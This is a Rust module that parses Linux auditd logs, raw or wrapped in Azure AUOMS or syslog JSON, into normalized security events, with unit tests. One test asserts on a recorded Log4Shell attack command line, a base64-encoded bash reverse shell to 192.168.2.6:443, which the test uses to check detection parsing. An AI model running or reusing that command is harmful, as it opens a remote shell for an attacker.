//! Linux auditd records: raw `audit.log` lines, grouped into one event per
//! `(timestamp:serial)`, or JSON lines whose `SyslogMessage` (Azure
//! Monitor's Syslog table, e.g. Microsoft's AUOMS agent) or `message` (a
//! syslog shipper) holds one such line.
//!
//! One kernel event is several lines sharing `msg=audit(SECONDS.MS:SERIAL)`
//! (SYSCALL, EXECVE, CWD, PATH..., PROCTITLE, then EOE). Lines are grouped
//! by that id (and the `node=` prefix); an event is complete at its EOE, or
//! [`AUDITD_EVENT_GAP_LINES`] lines after its last record, or when the open
//! events hold more than [`AUDITD_OPEN_BYTES_MAX`]. Events come out in the
//! order of their first line, numbered in that order.
//!
//! | event | from |
//! |---|---|
//! | time | the `audit(SECONDS.MS:SERIAL)` stamp |
//! | actor.id | `acct`, else a name the log resolved (AUOMS `audit_user`/`user`, enriched `AUID`/`UID`), else `uid:{auid}` when set, else `uid:{uid}`, else `unset` |
//! | actor.ip / user_agent | `addr` / `exe` (the program that acted) |
//! | action | the main record's type, plus `:{syscall name}` when it is a syscall (`SYSCALL:execve`); AUOMS's coalesced `AUOMS_*` syscall records count as `SYSCALL` |
//! | resource | the syscall's object (first non-parent PATH `name`), else `unit`, `cmd`, `exe`, `comm`; `auditd` when none |
//! | outcome | an AVC or AppArmor denial, or a syscall failing with EACCES/EPERM: denied; `success=no` or `res=failed`: failure; `success=yes` or `res=success`: success; else unknown |
//! | idempotency key | `auditd:{node}:{SECONDS.MS}:{SERIAL}` (`auditd:{SECONDS.MS}:{SERIAL}` without a node) |
//!
//! `details` = `{"id", "node", "records": [...]}`: each record is its
//! fields by their native names with `type`; hex-encoded strings decoded; a
//! user-space message's inner `msg='...'` as an object; words that are not
//! `key=value` under `text`; a JSON wrapper's other fields under `syslog`.

use std::collections::VecDeque;
use std::io::{BufRead, Read};
use std::sync::OnceLock;

use regex::Regex;
use serde_json::{Map, Value};

use super::record::{self, kind, Draft};
use super::{time, Format, IngestError, RecordError};
use crate::ledger::event::{Event, Outcome};
use crate::limits::{
    AUDITD_EVENT_GAP_LINES, AUDITD_EVENT_RECORDS_MAX, AUDITD_LINE_BYTES_MAX, AUDITD_OPEN_BYTES_MAX,
};

/// Fields auditd writes hex-encoded (without quotes) when their text has
/// spaces, quotes or control characters.
const ENCODED_FIELDS: &[&str] = &[
    "acct",
    "cmd",
    "comm",
    "cwd",
    "data",
    "dir",
    "exe",
    "file",
    "key",
    "name",
    "new",
    "ocomm",
    "old",
    "path",
    "proctitle",
    "watch",
];

/// AUOMS writes these unquoted with their spaces unescaped.
const UNQUOTED_WITH_SPACES: &[&str] = &["proctitle", "cmdline"];

/// Records that only add detail to an event's main record.
const AUXILIARY_TYPES: &[&str] = &[
    "EOE",
    "PROCTITLE",
    "PATH",
    "CWD",
    "EXECVE",
    "SOCKADDR",
    "BPRM_FCAPS",
    "OBJ_PID",
    "MMAP",
    "FD_PAIR",
    "IPC",
    "SOCKETCALL",
    "KERN_MODULE",
    "CAPSET",
    "NETFILTER_PKT",
];

/// How auditd writes "no id" for auid, ses and uids.
const UNSET_IDS: &[&str] = &["4294967295", "-1", "unset"];

/// Syscall exits that mean the kernel refused permission.
const EXIT_EACCES: &str = "-13";
const EXIT_EPERM: &str = "-1";

/// AUDIT_ARCH_* values (and AUOMS's names) with a syscall table here.
#[derive(Clone, Copy)]
enum Arch {
    X86_64,
    X86,
    Aarch64,
    Arm,
}

fn arch(value: &str) -> Option<Arch> {
    match value.to_ascii_lowercase().as_str() {
        "c000003e" | "x86_64" => Some(Arch::X86_64),
        "40000003" | "i386" | "i686" | "x86" => Some(Arch::X86),
        "c00000b7" | "aarch64" => Some(Arch::Aarch64),
        "40000028" | "arm" | "armeb" => Some(Arch::Arm),
        _ => None,
    }
}

fn syscall_name(arch: Arch, number: usize) -> Option<&'static str> {
    match arch {
        Arch::X86_64 => syscalls::x86_64::Sysno::new(number).map(|s| s.name()),
        Arch::X86 => syscalls::x86::Sysno::new(number).map(|s| s.name()),
        Arch::Aarch64 => syscalls::aarch64::Sysno::new(number).map(|s| s.name()),
        Arch::Arm => syscalls::arm::Sysno::new(number).map(|s| s.name()),
    }
}

fn header() -> &'static Regex {
    static HEADER: OnceLock<Regex> = OnceLock::new();
    HEADER.get_or_init(|| {
        Regex::new(
            r"^(?:node=(?P<node>\S+)\s+)?type=(?P<type>[A-Za-z0-9_]+)\s+(?:msg=)?audit\((?P<stamp>[0-9]+(?:\.[0-9]+)?):(?P<serial>[0-9]+)\):?\s*(?P<body>.*)$",
        )
        .expect("the header pattern is valid")
    })
}

/// One audit line, parsed.
struct Line {
    node: Option<String>,
    stamp: String,
    serial: String,
    /// `{"type": ..., fields...}`.
    record: Map<String, Value>,
}

/// Parses one raw audit line (without its newline).
fn parse_line(text: &str) -> Result<Line, RecordError> {
    let caps = header().captures(text).ok_or_else(|| RecordError::Auditd {
        reason: "expected `type=TYPE msg=audit(SECONDS.MS:SERIAL): ...`".into(),
    })?;
    let group = |name: &str| caps.name(name).map_or("", |m| m.as_str());
    let kind = group("type").to_string();
    let mut record = Map::new();
    record.insert("type".into(), Value::String(kind.clone()));
    for (key, value) in parse_fields(group("body"), &kind) {
        record.entry(key).or_insert(value);
    }
    Ok(Line {
        node: caps.name("node").map(|m| m.as_str().to_string()),
        stamp: group("stamp").to_string(),
        serial: group("serial").to_string(),
        record,
    })
}

/// `key=value` pairs of a record body in order, with quoted values
/// unquoted, hex-encoded ones decoded, `msg='...'` as an object, and other
/// words joined under `text`.
fn parse_fields(body: &str, record_type: &str) -> Vec<(String, Value)> {
    let mut fields: Vec<(String, Value)> = Vec::new();
    let mut text: Vec<&str> = Vec::new();
    // The enriched format separates resolved names with 0x1d.
    let body = body.replace('\u{1d}', " ");
    let mut rest = body.as_str();
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            break;
        }
        // Old PAM messages wrap their tail: `(hostname=?, addr=?, res=success)`.
        let unwrapped = rest.strip_prefix('(').filter(|r| split_key(r).is_some());
        let Some((key, after)) = split_key(unwrapped.unwrap_or(rest)) else {
            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            let word = &rest[..end];
            match fields.last_mut() {
                Some((key, Value::String(value)))
                    if UNQUOTED_WITH_SPACES.contains(&key.as_str()) =>
                {
                    value.push(' ');
                    value.push_str(word);
                }
                _ => text.push(word),
            }
            rest = &rest[end..];
            continue;
        };
        let (raw, quoted, next) = match after.chars().next() {
            Some(q @ ('"' | '\'')) => {
                let inner = &after[1..];
                let end = closing_quote(inner, q).unwrap_or(inner.len());
                (&inner[..end], Some(q), inner.get(end + 1..).unwrap_or(""))
            }
            _ => {
                let end = after.find(char::is_whitespace).unwrap_or(after.len());
                (unwrap_tail(&after[..end]), None, &after[end..])
            }
        };
        let value = if quoted == Some('\'') && key == "msg" {
            Value::Object(parse_fields(raw, record_type).into_iter().collect())
        } else if quoted.is_none() && is_encoded(key, record_type) {
            Value::String(decode_hex(raw, key).unwrap_or_else(|| raw.to_string()))
        } else {
            Value::String(raw.to_string())
        };
        fields.push((key.to_string(), value));
        rest = next;
    }
    if !text.is_empty() {
        fields.push(("text".into(), Value::String(text.join(" "))));
    }
    fields
}

/// An unquoted value less the separators of the old PAM format (`addr=?,`
/// and the `)` closing its wrapped tail), keeping values such as `(null)`.
fn unwrap_tail(raw: &str) -> &str {
    let raw = raw.trim_end_matches(',');
    match raw.strip_suffix(')') {
        Some(inner) if !inner.contains('(') => inner,
        _ => raw,
    }
}

/// `key=` at the start of `text`: the key and what follows the `=`.
fn split_key(text: &str) -> Option<(&str, &str)> {
    let eq = text.find('=')?;
    let key = &text[..eq];
    let valid = key
        .chars()
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
    valid.then(|| (key, &text[eq + 1..]))
}

/// The closing quote: the first `q` followed by whitespace or the end
/// (AUOMS leaves quotes inside quoted values unescaped).
fn closing_quote(text: &str, q: char) -> Option<usize> {
    text.char_indices()
        .filter(|&(_, c)| c == q)
        .map(|(i, _)| i)
        .find(|&i| text[i + 1..].chars().next().is_none_or(char::is_whitespace))
}

fn is_encoded(key: &str, record_type: &str) -> bool {
    ENCODED_FIELDS.contains(&key)
        || (record_type == "EXECVE"
            && key.len() > 1
            && key.starts_with('a')
            && key[1..].bytes().all(|b| b.is_ascii_digit()))
}

/// Hex text to a string: NULs (between proctitle arguments) as spaces, and
/// 0x01 (between rule keys) as commas. `None` when it is not hex.
fn decode_hex(raw: &str, key: &str) -> Option<String> {
    if raw.len() < 2 || !raw.len().is_multiple_of(2) || !raw.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return None;
    }
    let bytes = hex::decode(raw).ok()?;
    let text = String::from_utf8_lossy(&bytes);
    let separator = if key == "key" { ',' } else { ' ' };
    Some(
        text.trim_end_matches('\0')
            .chars()
            .map(|c| {
                if c == '\0' || c == '\u{1}' {
                    separator
                } else {
                    c
                }
            })
            .collect(),
    )
}

/// An event being gathered.
struct Open {
    number: u64,
    line: u64,
    last_line: u64,
    node: Option<String>,
    stamp: String,
    serial: String,
    records: Vec<Map<String, Value>>,
    records_dropped: usize,
    bytes: usize,
    complete: bool,
    /// A line that is not an audit record is an "event" of its own that
    /// only reports this, so errors come out in input order too.
    error: Option<RecordError>,
}

impl Open {
    fn id(&self) -> String {
        format!("{}:{}", self.stamp, self.serial)
    }

    fn matches(&self, line: &Line) -> bool {
        self.error.is_none()
            && !self.complete
            && self.serial == line.serial
            && self.stamp == line.stamp
            && self.node == line.node
    }
}

/// Streams auditd events from lines.
pub(super) struct Reader<R> {
    input: R,
    line: u64,
    events: u64,
    open: VecDeque<Open>,
    open_bytes: usize,
    finished: bool,
}

impl<R: BufRead> Reader<R> {
    pub(super) fn new(input: R) -> Self {
        Reader {
            input,
            line: 0,
            events: 0,
            open: VecDeque::new(),
            open_bytes: 0,
            finished: false,
        }
    }

    /// Reads and files one line; `Ok(false)` at the end of the input.
    fn read_line(&mut self) -> Result<bool, std::io::Error> {
        let mut buf = Vec::new();
        let read = (&mut self.input)
            .take(AUDITD_LINE_BYTES_MAX as u64 + 1)
            .read_until(b'\n', &mut buf)?;
        if read == 0 {
            return Ok(false);
        }
        self.line += 1;
        if buf.len() > AUDITD_LINE_BYTES_MAX && buf.last() != Some(&b'\n') {
            // Skip the rest of the line in bounded pieces.
            loop {
                let mut rest = Vec::new();
                let n = (&mut self.input)
                    .take(AUDITD_LINE_BYTES_MAX as u64)
                    .read_until(b'\n', &mut rest)?;
                if n == 0 || rest.last() == Some(&b'\n') {
                    break;
                }
            }
            self.push_error(RecordError::TooLarge {
                max: AUDITD_LINE_BYTES_MAX,
            });
            return Ok(true);
        }
        let text = String::from_utf8_lossy(&buf);
        let text = text.trim_end_matches(['\n', '\r']);
        if text.trim().is_empty() {
            return Ok(true);
        }
        match line_from_text(text) {
            Ok(line) => self.file(line, buf.len()),
            Err(e) => self.push_error(e),
        }
        Ok(true)
    }

    fn push_error(&mut self, error: RecordError) {
        self.events += 1;
        self.open.push_back(Open {
            number: self.events,
            line: self.line,
            last_line: self.line,
            node: None,
            stamp: String::new(),
            serial: String::new(),
            records: Vec::new(),
            records_dropped: 0,
            bytes: 0,
            complete: true,
            error: Some(error),
        });
    }

    fn file(&mut self, line: Line, bytes: usize) {
        let is_eoe = line.record.get("type").and_then(Value::as_str) == Some("EOE");
        let at = self.line;
        let index = match self.open.iter().rposition(|o| o.matches(&line)) {
            Some(index) => index,
            None => {
                self.events += 1;
                self.open.push_back(Open {
                    number: self.events,
                    line: at,
                    last_line: at,
                    node: line.node.clone(),
                    stamp: line.stamp.clone(),
                    serial: line.serial.clone(),
                    records: Vec::new(),
                    records_dropped: 0,
                    bytes: 0,
                    complete: false,
                    error: None,
                });
                self.open.len() - 1
            }
        };
        let open = &mut self.open[index];
        open.last_line = at;
        if is_eoe {
            open.complete = true;
        } else if open.records.len() >= AUDITD_EVENT_RECORDS_MAX {
            open.records_dropped += 1;
        } else {
            open.records.push(line.record);
            open.bytes += bytes;
            self.open_bytes += bytes;
        }
    }

    /// The oldest open event, if it is done (or `all`, at the end).
    fn take_ready(&mut self, all: bool) -> Option<Open> {
        let front = self.open.front()?;
        let done = all
            || front.complete
            || self.line.saturating_sub(front.last_line) > AUDITD_EVENT_GAP_LINES
            || self.open_bytes > AUDITD_OPEN_BYTES_MAX;
        if !done {
            return None;
        }
        let open = self.open.pop_front()?;
        self.open_bytes -= open.bytes;
        Some(open)
    }
}

impl<R: BufRead> Iterator for Reader<R> {
    type Item = Result<(u64, Event), IngestError>;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            if let Some(open) = self.take_ready(self.finished) {
                let (number, line) = (open.number, open.line);
                return Some(map_open(open).map(|e| (number, e)).map_err(|reason| {
                    IngestError::Record {
                        record: number,
                        line,
                        reason,
                    }
                }));
            }
            if self.finished {
                return None;
            }
            match self.read_line() {
                Ok(true) => {}
                Ok(false) => self.finished = true,
                Err(e) => {
                    // Nothing more can be read: stop here.
                    self.open.clear();
                    self.finished = true;
                    return Some(Err(IngestError::Read(e)));
                }
            }
        }
    }
}

/// A raw line, or a JSON object carrying one.
fn line_from_text(text: &str) -> Result<Line, RecordError> {
    if !text.trim_start().starts_with('{') {
        return parse_line(text.trim());
    }
    let value: Value = serde_json::from_str(text).map_err(|e| RecordError::InvalidJson {
        reason: e.to_string(),
    })?;
    line_from_json(&value)
}

/// An audit line inside a JSON wrapper; the wrapper's other fields go to
/// the record's `syslog`.
fn line_from_json(value: &Value) -> Result<Line, RecordError> {
    let object = record::object(value)?;
    let (field, message) = ["SyslogMessage", "message"]
        .into_iter()
        .find_map(|f| object.get(f).map(|m| (f, m)))
        .ok_or(RecordError::MissingField {
            field: "SyslogMessage",
            why: "it holds the audit record (or `message` does)",
        })?;
    let message = message.as_str().ok_or(RecordError::WrongType {
        field,
        expected: "a string",
        found: kind(message),
    })?;
    let mut line = parse_line(message.trim())?;
    if line.node.is_none() {
        line.node = line
            .record
            .get("node")
            .or_else(|| object.get("Computer"))
            .or_else(|| object.get("HostName"))
            .and_then(Value::as_str)
            .filter(|n| !n.is_empty())
            .map(str::to_string);
    }
    let mut wrapper = object.clone();
    wrapper.remove(field);
    line.record.insert("syslog".into(), Value::Object(wrapper));
    Ok(line)
}

/// One native record for [`super::event_from_json`]: a JSON wrapper around
/// one audit line, as a single-record event.
pub(super) fn map_json(value: &Value) -> Result<Event, RecordError> {
    let line = line_from_json(value)?;
    map_open(Open {
        number: 1,
        line: 1,
        last_line: 1,
        node: line.node,
        stamp: line.stamp,
        serial: line.serial,
        records: vec![line.record],
        records_dropped: 0,
        bytes: 0,
        complete: true,
        error: None,
    })
}

fn map_open(open: Open) -> Result<Event, RecordError> {
    if let Some(error) = open.error {
        return Err(error);
    }
    let id = open.id();
    let time_unix_nanos = time::from_seconds_text(&open.stamp).ok_or(RecordError::BadTime {
        field: "audit(...)",
        value: open.stamp.clone(),
        reason: "expected SECONDS.MILLISECONDS".into(),
    })?;
    let records = &open.records;
    let main = main_record(records);
    let find = |field: &str| find_field(records, main, field);
    let actor_id = actor(&find);
    let native_id = match &open.node {
        Some(node) => format!("{node}:{id}"),
        None => id.clone(),
    };
    let resource = resource(records, main, &find);
    let draft = Draft {
        time_unix_nanos,
        actor_id: Some(&actor_id),
        actor_kind: None,
        actor_ip: find("addr"),
        user_agent: find("exe"),
        action: action(main),
        resource,
        outcome: outcome(records, main, &find),
        native_id: Some(native_id),
    };
    let mut details = Map::new();
    details.insert("id".into(), Value::String(id));
    if let Some(node) = &open.node {
        details.insert("node".into(), Value::String(node.clone()));
    }
    if open.records_dropped > 0 {
        details.insert(
            "_ironlog_records_dropped".into(),
            open.records_dropped.into(),
        );
    }
    details.insert(
        "records".into(),
        Value::Array(open.records.iter().cloned().map(Value::Object).collect()),
    );
    record::finish(Format::Auditd, draft, &details)
}

/// The record that says what happened: the syscall, else the first that
/// is not auxiliary, else the first.
fn main_record(records: &[Map<String, Value>]) -> Option<&Map<String, Value>> {
    fn kind_of(r: &Map<String, Value>) -> &str {
        r.get("type").and_then(Value::as_str).unwrap_or("")
    }
    records
        .iter()
        .find(|r| kind_of(r) == "SYSCALL")
        .or_else(|| {
            records
                .iter()
                .find(|r| !AUXILIARY_TYPES.contains(&kind_of(r)))
        })
        .or_else(|| records.first())
}

/// A field of the main record (or its inner `msg`), else of any record.
fn find_field<'a>(
    records: &'a [Map<String, Value>],
    main: Option<&'a Map<String, Value>>,
    field: &str,
) -> Option<&'a str> {
    let in_record = |r: &'a Map<String, Value>| {
        r.get(field)
            .or_else(|| r.get("msg").and_then(|m| m.get(field)))
            .and_then(Value::as_str)
            .filter(|v| !v.is_empty() && *v != "?" && *v != "(null)")
    };
    main.and_then(in_record)
        .or_else(|| records.iter().find_map(in_record))
}

fn action(main: Option<&Map<String, Value>>) -> String {
    let Some(main) = main else {
        return "EOE".into();
    };
    let kind = main
        .get("type")
        .and_then(Value::as_str)
        .unwrap_or("UNKNOWN");
    let Some(syscall) = main.get("syscall").and_then(Value::as_str) else {
        return kind.to_string();
    };
    let kind = if kind.starts_with("AUOMS_") {
        "SYSCALL"
    } else {
        kind
    };
    // Enriched logs carry the name; raw ones a number for the arch's table.
    let name = main
        .get("SYSCALL")
        .and_then(Value::as_str)
        .or_else(|| {
            let arch = main.get("arch").and_then(Value::as_str).and_then(arch)?;
            syscall_name(arch, syscall.parse().ok()?)
        })
        .unwrap_or(syscall);
    format!("{kind}:{name}")
}

fn is_set(id: &str) -> bool {
    !UNSET_IDS.contains(&id)
}

fn actor<'a>(find: &impl Fn(&str) -> Option<&'a str>) -> String {
    let named = |field: &str| find(field).filter(|v| is_set(v));
    if let Some(name) = named("acct")
        .or_else(|| named("audit_user"))
        .or_else(|| named("AUID"))
    {
        return name.to_string();
    }
    if let Some(auid) = named("auid") {
        return format!("uid:{auid}");
    }
    if let Some(name) = named("user").or_else(|| named("UID")) {
        return name.to_string();
    }
    match named("uid") {
        Some(uid) => format!("uid:{uid}"),
        None => "unset".into(),
    }
}

fn resource<'a>(
    records: &'a [Map<String, Value>],
    main: Option<&'a Map<String, Value>>,
    find: &impl Fn(&str) -> Option<&'a str>,
) -> String {
    let is_syscall = main.is_some_and(|m| m.contains_key("syscall"));
    if is_syscall {
        let object = records
            .iter()
            .filter(|r| r.get("type").and_then(Value::as_str) == Some("PATH"))
            .find(|r| {
                r.get("nametype")
                    .or_else(|| r.get("objtype"))
                    .and_then(Value::as_str)
                    != Some("PARENT")
            })
            .and_then(|r| r.get("name").and_then(Value::as_str))
            .or_else(|| main.and_then(|m| m.get("name")).and_then(Value::as_str));
        if let Some(name) = object.filter(|n| !n.is_empty() && *n != "(null)") {
            return name.to_string();
        }
    }
    ["unit", "cmd", "exe", "comm"]
        .into_iter()
        .find_map(find)
        .unwrap_or_default()
        .to_string()
}

fn outcome<'a>(
    records: &'a [Map<String, Value>],
    main: Option<&'a Map<String, Value>>,
    find: &impl Fn(&str) -> Option<&'a str>,
) -> Outcome {
    let denial = records.iter().any(|r| {
        let text = r.get("text").and_then(Value::as_str).unwrap_or("");
        let apparmor = r.get("apparmor").and_then(Value::as_str).unwrap_or("");
        text.split_whitespace().any(|w| w == "denied") || apparmor.eq_ignore_ascii_case("DENIED")
    });
    if denial {
        return Outcome::Denied;
    }
    if let Some(success) = main.and_then(|m| m.get("success")).and_then(Value::as_str) {
        return match success {
            "yes" => Outcome::Success,
            _ => match main.and_then(|m| m.get("exit")).and_then(Value::as_str) {
                Some(EXIT_EACCES | EXIT_EPERM) => Outcome::Denied,
                _ => Outcome::Failure,
            },
        };
    }
    match find("res") {
        Some("success" | "yes" | "1") => Outcome::Success,
        Some("failed" | "no" | "0") => Outcome::Failure,
        _ => Outcome::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ingest::read_events;
    use serde_json::json;

    const RAW: &str = include_str!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/ingest/auditd_go_libaudit.log"
    ));
    const AUOMS: &str = include_str!(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/ingest/auditd_otrf_log4shell_auoms.jsonl"
    ));

    fn events(text: &str) -> Vec<(u64, Event)> {
        read_events(Format::Auditd, text.as_bytes())
            .map(|r| r.expect("every sample record maps"))
            .collect()
    }

    fn by_id<'a>(events: &'a [(u64, Event)], id: &str) -> &'a Event {
        &events
            .iter()
            .find(|(_, e)| e.details["id"] == id)
            .unwrap_or_else(|| panic!("no event {id}"))
            .1
    }

    #[test]
    fn raw_lines_group_into_events() {
        let events = events(RAW);
        let numbers: Vec<u64> = events.iter().map(|(n, _)| *n).collect();
        let expected: Vec<u64> = (1..=events.len() as u64).collect();
        assert_eq!(numbers, expected, "numbered in input order");
        // make-device: SYSCALL, CWD, two PATHs and EOE are one event.
        let mknod = by_id(&events, "1492800799.050:20294");
        assert_eq!(mknod.action, "SYSCALL:mknod");
        assert_eq!(mknod.resource, "/run/systemd/sessions/23.ref");
        assert_eq!(mknod.actor.id, "uid:0");
        assert_eq!(mknod.outcome, Outcome::Success);
        assert_eq!(mknod.time_unix_nanos, 1_492_800_799_050_000_000);
        assert_eq!(
            mknod.details["records"].as_array().unwrap().len(),
            4,
            "EOE is not kept"
        );
        assert_eq!(
            mknod.actor.user_agent.as_deref(),
            Some("/usr/lib/systemd/systemd-logind;58f98c85 (deleted)"),
            "hex-encoded exe decoded"
        );
        assert_eq!(
            mknod.idempotency_key.as_deref(),
            Some("auditd:1492800799.050:20294")
        );
        // A failed ssh login from the internet.
        let login = by_id(&events, "1493046015.752:42120");
        assert_eq!(login.action, "USER_LOGIN");
        assert_eq!(login.actor.id, "root");
        assert_eq!(login.actor.ip.as_deref(), Some("46.160.144.250"));
        assert_eq!(login.outcome, Outcome::Failure);
        assert_eq!(login.resource, "/usr/sbin/sshd");
        assert_eq!(login.details["records"][0]["msg"]["op"], "login");
        // An SELinux denial with its syscall.
        let avc = by_id(&events, "1170021493.977:293");
        assert_eq!(avc.action, "SYSCALL:open");
        assert_eq!(avc.outcome, Outcome::Denied);
        assert_eq!(avc.resource, "maildrop");
    }

    #[test]
    fn interleaved_records_still_group() {
        let text = "type=SYSCALL msg=audit(1451781471.394:194435): arch=c000003e syscall=23 success=yes exit=1 auid=1000 uid=1000 comm=\"sshd\" exe=\"/usr/sbin/sshd\" key=(null)\n\
                    type=SYSCALL msg=audit(1451781471.394:194433): arch=c000003e syscall=13 success=yes exit=0 auid=1000 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)\n\
                    type=PROCTITLE msg=audit(1451781471.394:194433): proctitle=\"bash\"\n\
                    type=PROCTITLE msg=audit(1451781471.394:194435): proctitle=737368643A206275726E205B707269765D\n";
        let events = events(text);
        assert_eq!(events.len(), 2);
        assert_eq!((events[0].0, events[1].0), (1, 2));
        assert_eq!(events[0].1.action, "SYSCALL:select");
        assert_eq!(
            events[0].1.details["records"][1]["proctitle"],
            "sshd: burn [priv]"
        );
        assert_eq!(events[1].1.action, "SYSCALL:rt_sigaction");
        assert_eq!(events[1].1.actor.id, "uid:1000");
    }

    #[test]
    fn auoms_json_lines() {
        let events = events(AUOMS);
        assert_eq!(events.len(), AUOMS.lines().count());
        let first = &events[0].1;
        assert_eq!(first.action, "SYSCALL:execve");
        assert_eq!(first.actor.id, "tomcat");
        assert_eq!(first.resource, "/usr/local/sbin/bash");
        assert_eq!(first.outcome, Outcome::Failure);
        assert_eq!(first.time_unix_nanos, 1_652_292_621_986_000_000);
        assert_eq!(
            first.idempotency_key.as_deref(),
            Some("auditd:UBUNTU5:1652292621.986:84138")
        );
        let record = &first.details["records"][0];
        assert_eq!(record["syslog"]["Computer"], "UBUNTU5");
        assert!(record["proctitle"]
            .as_str()
            .unwrap()
            .contains("-Djava.util.logging.config.file="));
        // The reverse shell the attacker ran through Log4Shell.
        let shell = events
            .iter()
            .map(|(_, e)| e)
            .find(|e| {
                e.details["records"][0]["cmdline"]
                    .as_str()
                    .is_some_and(|c| c.contains("base64,-d"))
            })
            .expect("the base64 reverse shell");
        assert_eq!(shell.resource, "/bin/bash");
        assert_eq!(shell.outcome, Outcome::Success);
        assert_eq!(
            shell.details["records"][0]["cmdline"],
            "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\""
        );
        // event_from_json maps the same wrapper alike.
        let line: Value = serde_json::from_str(AUOMS.lines().next().unwrap()).unwrap();
        assert_eq!(
            &crate::ingest::event_from_json(Format::Auditd, &line).unwrap(),
            first
        );
    }

    #[test]
    fn bad_lines_are_errors_in_order() {
        let text = "type=LOGIN msg=audit(1481077043.057:414): pid=1298 uid=0 old-auid=4294967295 auid=1000 ses=1 res=1\n\
                    this is not audit\n\
                    {\"SyslogMessage\": 5}\n\
                    type=USER_END msg=audit(1481077043.100:415): pid=1 uid=0 auid=1000 msg='op=PAM:session_close acct=\"alice\" res=success'\n";
        let got: Vec<_> = read_events(Format::Auditd, text.as_bytes()).collect();
        assert_eq!(got.len(), 4);
        assert_eq!(got[0].as_ref().unwrap().1.outcome, Outcome::Success);
        assert!(
            got[1]
                .as_ref()
                .unwrap_err()
                .to_string()
                .starts_with("record 2: not an auditd record"),
            "{:?}",
            got[1]
        );
        assert_eq!(
            got[2].as_ref().unwrap_err().to_string(),
            "record 3: `SyslogMessage` must be a string, found a number"
        );
        assert_eq!(got[3].as_ref().unwrap().1.actor.id, "alice");
        assert_eq!(got[3].as_ref().unwrap().0, 4);
    }

    #[test]
    fn fields_parse_quotes_hex_and_free_text() {
        let fields: Map<String, Value> = parse_fields(
            "avc:  denied  { read } for  pid=13010 comm=\"pickup\" acct=28696E76616C6964207573657229 key=65786563013634626974 msg='op=x res=failed'",
            "AVC",
        )
        .into_iter()
        .collect();
        assert_eq!(fields["comm"], "pickup");
        assert_eq!(fields["acct"], "(invalid user)");
        assert_eq!(fields["key"], "exec,64bit");
        assert_eq!(fields["msg"], json!({"op": "x", "res": "failed"}));
        assert_eq!(fields["text"], "avc: denied { read } for");
        let old_pam: Map<String, Value> = parse_fields(
            "user pid=1 key=(null) msg='PAM: session open acct=root : exe=\"/usr/sbin/crond\" (hostname=?, addr=?, terminal=cron res=success)'",
            "USER_START",
        )
        .into_iter()
        .collect();
        assert_eq!(old_pam["key"], "(null)");
        assert_eq!(old_pam["msg"]["addr"], "?");
        assert_eq!(old_pam["msg"]["res"], "success");
        assert_eq!(old_pam["msg"]["acct"], "root");
    }

    #[test]
    fn open_events_are_bounded() {
        let mut text = String::new();
        for serial in 0..(AUDITD_EVENT_GAP_LINES * 3) {
            text.push_str(&format!("type=SYSCALL msg=audit(1.0:{serial}): arch=c000003e syscall=59 success=yes exit=0 auid=1 uid=0\n"));
        }
        let mut reader = Reader::new(text.as_bytes());
        let first = reader.next().unwrap().unwrap();
        assert_eq!(first.0, 1);
        assert!(
            reader.open.len() as u64 <= AUDITD_EVENT_GAP_LINES + 1,
            "{} open",
            reader.open.len()
        );
        assert_eq!(reader.count() as u64, AUDITD_EVENT_GAP_LINES * 3 - 1);
    }
}
